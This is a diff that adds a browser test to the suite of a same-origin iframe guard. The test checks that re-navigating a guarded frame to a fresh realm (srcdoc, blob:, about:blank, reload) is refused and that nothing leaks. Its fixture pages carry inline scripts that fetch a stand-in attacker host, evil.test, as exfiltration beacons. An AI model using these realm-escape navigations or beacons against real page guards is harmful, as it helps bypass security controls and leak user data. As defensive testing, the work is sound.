@@ -73,3 +73,46 @@ test('fresh same-origin frames reached only as frames[i] (no getter): every inse
   });
   await page.close();
 });
+
+test('a guarded same-origin frame navigated to a new document of the same origin (another srcdoc, blob:, about:blank, a reload), which would be a new realm: the navigation is refused (guard)', async () => {
+  const page = await open(PROBE);
+  const outcomes = await page.evaluate(async () => {
+    await guardReady;
+    const marker = 'adv-renavigate';
+    // Every document sends from its own script as it loads: in a new realm, before anyone could guard it.
+    const page = (name) => `<script>fetch('https://evil.test/${marker}/${name}-own-script').catch(() => {})<\/script>`;
+    const blob = (name) => URL.createObjectURL(new Blob([page(name)], { type: 'text/html' }));
+    /** Loads a srcdoc frame, runs `navigate(frame, window)`, waits until it loaded again or the guard refused, probes frames[i]. */
+    const navigated = async (name, navigate) => {
+      const frame = document.createElement('iframe');
+      frame.srcdoc = page(name + '-first');
+      await new Promise((resolve) => { frame.onload = resolve; document.body.append(frame); });
+      const index = frames.length - 1;
+      const refused = new Promise((resolve) => document.addEventListener('widget-guard:violation', function once(e) {
+        if (e.detail.sink === 'navigation') { document.removeEventListener('widget-guard:violation', once); resolve('refused'); }
+      }));
+      const loaded = new Promise((resolve) => { frame.onload = () => resolve('loaded'); });
+      navigate(frame, frames[index]);
+      const timeout = new Promise((resolve) => setTimeout(() => resolve('neither loaded nor refused'), 5000));
+      return `${await Promise.race([refused, loaded, timeout])}, ${await probe(frames[index], marker, name)}`;
+    };
+    return {
+      srcdocAgain: await navigated('srcdoc-again', (frame) => { frame.srcdoc = page('srcdoc-again'); }),
+      blobSrc: await navigated('blob-src', (frame) => { frame.src = blob('blob-src'); frame.removeAttribute('srcdoc'); }),
+      aboutBlank: await navigated('about-blank', (frame, win) => { win.location.href = 'about:blank'; }),
+      blobReplace: await navigated('blob-replace', (frame, win) => win.location.replace(blob('blob-replace'))),
+      reload: await navigated('reload', (frame, win) => win.location.reload()),
+      fragment: await navigated('fragment', (frame, win) => { win.location.hash = 'same-document'; frame.onload(); }),
+    };
+  });
+  assertNothingLeaked('adv-renavigate');
+  assert.deepEqual(outcomes, {
+    srcdocAgain: 'refused, TypeError (guard)',
+    blobSrc: 'refused, TypeError (guard)',
+    aboutBlank: 'refused, TypeError (guard)',
+    blobReplace: 'refused, TypeError (guard)',
+    reload: 'refused, TypeError (guard)',
+    fragment: 'loaded, TypeError (guard)', // a same-document move makes no new realm: let through
+  });
+  await page.close();
+});
